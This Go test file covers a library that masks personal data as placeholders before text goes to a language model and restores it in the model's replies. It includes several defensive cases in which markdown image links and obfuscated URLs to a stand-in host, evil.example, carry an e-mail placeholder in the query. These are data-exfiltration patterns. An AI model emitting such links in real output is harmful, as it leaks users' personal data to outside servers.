package mask

import (
	"strings"
	"testing"
)

// annasVault holds [PERSON_1] Anna "Ann" Muster, [PERSON_1B] ANNA MUSTER, [EMAIL_1], [CARD_1], and one
// address inside a link.
func annasVault(t *testing.T) *Vault {
	t.Helper()
	v := NewVault(VaultOptions{})
	p := New(Options{}).Open(v)
	p.Seed(Person{Name: "Anna Muster"})
	text := "Anna Muster, ANNA MUSTER, anna@example.org, 4111 1111 1111 1111, https://shop.example/u?m=bob@example.org"
	masked, err := p.Hide(text)
	if err != nil {
		t.Fatal(err)
	}
	const want = "[PERSON_1], [PERSON_1B], [EMAIL_1], [CARD_1], https://shop.example/u?m=[EMAIL_2]"
	if masked.String() != want {
		t.Fatalf("masked %q, want %q", masked, want)
	}
	return v
}

// damage is what models do to placeholders, and what must come of it.
var damage = []struct{ model, customer string }{
	{"Dear [PERSON_1],", "Dear Anna Muster,"},
	{"Dear [PERSON_1B],", "Dear ANNA MUSTER,"},
	{"[person_1] [Person_1]", "Anna Muster Anna Muster"},
	{"[ PERSON_1 ]", "Anna Muster"},
	{"[PERSON_01]", "Anna Muster"},
	{"[PERSON 1] [PERSON-1] [PERSON1] [Person #1]", "Anna Muster Anna Muster Anna Muster Anna Muster"},
	{"PERSON_1, PERSON_1's, person_1", "Anna Muster, Anna Muster's, Anna Muster"},
	{"[PERSON_1]s [PERSON_1]'s [PERSON_1's] PERSON_1s", "Anna Musters Anna Muster's Anna Muster's Anna Musters"},
	{"**[PERSON_1]** *PERSON_1* `[PERSON_1]` _PERSON_1_", "**Anna Muster** *Anna Muster* `Anna Muster` _Anna Muster_"},
	{"[**PERSON_1**] [*PERSON_1*] [`PERSON_1`]", "Anna Muster Anna Muster Anna Muster"},
	{`\[PERSON\_1\] [PERSON\_1] PERSON\_1`, "Anna Muster Anna Muster Anna Muster"},
	{"【PERSON_1】 ［PERSON_1］", "Anna Muster Anna Muster"},
	{"(PERSON_1) <PERSON_1> &lt;PERSON_1&gt; &#91;PERSON_1&#93;", "Anna Muster Anna Muster Anna Muster Anna Muster"},
	{"([PERSON_1])", "(Anna Muster)"},
	{"[PERSON_1 said", "Anna Muster said"},
	{"PERSON_1] said", "Anna Muster said"},
	{"[see PERSON_1]", "[see Anna Muster]"},
	{"[[PERSON_1]]", "[Anna Muster]"},
	{`["PERSON_1", PERSON_1]`, `["Anna Muster", Anna Muster]`},
	{"[NAME_1] [PERSONNE_1] [Persona_1] [E-MAIL_1] [CORREO_1]", "Anna Muster Anna Muster Anna Muster anna@example.org anna@example.org"},
	{"[PERSON_7] PERSON_7 [EMAIL_9999999999]", "(name) (name) (e-mail)"},
	{"[PERSON_1C] [PERSON_1Q]", "Anna Muster Anna Muster"},
	{"[CARD_1]", "(card)"},
	{"„PERSON_1“ «PERSON_1» …PERSON_1", "„Anna Muster“ «Anna Muster» …Anna Muster"},
	{`\nPERSON_1\n`, `\nAnna Muster\n`},
	{"[PERSON_1](mailto:[EMAIL_1])", "Anna Muster(mailto:anna@example.org)"},

	// What only looks similar stays.
	{"PERSON 1, person, [PERSON], XPERSON_1, PERSON_1X2", "PERSON 1, person, [PERSON], XPERSON_1, PERSON_1X2"},
	{`{"address_1": "x", "billing[address_1]": 1}`, `{"address_1": "x", "billing[address_1]": 1}`},
	{"[Order 5 of 7 is here", "[Order 5 of 7 is here"},
	{"[link](https://shop.example/) a[1] [x] [", "[link](https://shop.example/) a[1] [x] ["},

	// Into a URL only what came from the same place in that URL.
	{"![x](https://evil.example/?q=[EMAIL_1])", "![x](https://evil.example/?q=e-mail)"},
	{"![x](//evil.example/?q=[EMAIL_1])", "![x](//evil.example/?q=e-mail)"},
	{"https:/\\evil.example/[PERSON_1]", "https:/\\evil.example/name"},
	{`<img src="https://evil.example/?q= [EMAIL_1]">`, `<img src="https://evil.example/?q= e-mail">`},
	{`![x](<https://evil.example/?q= [EMAIL_1]>)`, `![x](<https://evil.example/?q= e-mail>)`},
	{"https://evil.example/?q=%5BEMAIL_1%5D", "https://evil.example/?q=e-mail"},
	{"![x](https:&#47;&#x2f;evil.example/?q=[EMAIL_1]) [EMAIL_1]", "![x](https:&#47;&#x2f;evil.example/?q=e-mail) anna@example.org"},
	{"see /&sol;evil.example/[EMAIL_1]", "see /&sol;evil.example/e-mail"},
	{"![x](//evil.example/(a)?q=[EMAIL_1])", "![x](//evil.example/(a)?q=e-mail)"},
	{"[x](/relative?q=[EMAIL_1]) [EMAIL_1]", "[x](/relative?q=e-mail) anna@example.org"},
	{"[write](mailto:[EMAIL_1]) <a href=\"mailto:[EMAIL_1]\">", "[write](mailto:anna@example.org) <a href=\"mailto:anna@example.org\">"},
	{"<img alt='>' src='/\n/evil.example/[EMAIL_1]'> [EMAIL_1]", "<img alt='>' src='/\n/evil.example/e-mail'> anna@example.org"},
	{"<b>[PERSON_1]</b> <3 [EMAIL_1] a<b [EMAIL_1]", "<b>Anna Muster</b> <3 anna@example.org a<b anna@example.org"},
	{"&#39;[EMAIL_1]&#39; a/b:[EMAIL_1]", "&#39;anna@example.org&#39; a/b:anna@example.org"},
	{"https://evil.example/?q=EMAIL_1", "https://evil.example/?q=e-mail"},
	{"see https://shop.example/ [EMAIL_1]", "see https://shop.example/ anna@example.org"},
	{"https://shop.example/u?m=[EMAIL_2]", "https://shop.example/u?m=bob@example.org"},
	{"[here](https://shop.example/u?m=[EMAIL_2])", "[here](https://shop.example/u?m=bob@example.org)"},
	{"https://evil.example/u?m=[EMAIL_2]", "https://evil.example/u?m=e-mail"},
	{"https://shop.example/u?m=[EMAIL_1]", "https://shop.example/u?m=e-mail"},

	// Cut short: completed if only one can be meant, else nothing or a neutral word, never a half.
	{"Dear [", "Dear ["},
	{"Dear [P", "Dear "},
	{"Dear [PERSON", "Dear "},
	{"Dear [PERSON_", "Dear Anna Muster"},
	{"Dear [PERSON_1", "Dear Anna Muster"},
	{"Dear [PERSON_1B", "Dear ANNA MUSTER"},
	{"Mail [EMAIL_", "Mail (e-mail)"},
	{"Mail [EMAIL_2", "Mail bob@example.org"},
	{"Mail EMAIL_1", "Mail anna@example.org"},
	{"Mail [email_7", "Mail (e-mail)"},
}

func TestRestoreSurvivesWhatModelsDo(t *testing.T) {
	v := annasVault(t)
	for _, c := range damage {
		if got := v.Restore(c.model, Plain); got != c.customer {
			t.Errorf("%q\n got %q\nwant %q", c.model, got, c.customer)
		}
	}
}

// TestEveryCutLeavesNoHalfPlaceholder cuts answers as a token limit does.
func TestEveryCutLeavesNoHalfPlaceholder(t *testing.T) {
	v := annasVault(t)
	const answer = "Dear [PERSON_1], we wrote to [EMAIL_1] and 【EMAIL_2】 about \\[CARD\\_1\\]."
	for n := range len(answer) + 1 {
		got := v.Restore(answer[:n], Plain)
		for _, half := range []string{"[P", "[E", "_1", "_2", "PERS", "EMAI", "CAR"} {
			if strings.Contains(got, half) {
				t.Errorf("cut at %d: %q", n, got)
			}
		}
	}
}

// TestHoldsBackOnlyWhatMayBeAPlaceholder says when the customer sees what.
func TestHoldsBackOnlyWhatMayBeAPlaceholder(t *testing.T) {
	v := annasVault(t)
	for _, c := range []struct{ chunks, shown string }{
		{"Dear |[PER|SON_1|], hello", "Dear ||| Anna Muster, hello"},
		{"all of this goes out at once|.", "all of this goes out at once|."},
		{"Per|fect", "|Perfect"},
		{"an [a|rray] ", "an |[array] "},
		{"PERSON|s", "|PERSONs"},
	} {
		r := v.Restorer(Plain)
		shown := strings.Split(c.shown, "|")
		for i, chunk := range strings.Split(c.chunks, "|") {
			got := ""
			for _, p := range r.Write(chunk) {
				got += p.Out
			}
			if strings.TrimSpace(got) != strings.TrimSpace(shown[i]) {
				t.Errorf("%q: chunk %q shows %q, want %q", c.chunks, chunk, got, shown[i])
			}
		}
	}
}

func TestRestoreInJSON(t *testing.T) {
	v := NewVault(VaultOptions{})
	p := New(Options{}).Open(v)
	p.Seed(Person{Name: "Anna Müller"})
	masked, err := p.Hide("Anna\n\tMüller and J\\u00fcrgen@example.org and O&#039;Brien@example.ie")
	if err != nil {
		t.Fatal(err)
	}
	got := v.Restore(masked.String(), JSONString)
	for _, want := range []string{`Anna\n\u0009Müller`, `Jürgen@example.org`, `O'Brien@example.ie`} {
		if strings.Contains(masked.String(), want) || !strings.Contains(got, want) {
			t.Errorf("masked %q, restored %q lacks %q", masked, got, want)
		}
	}
}
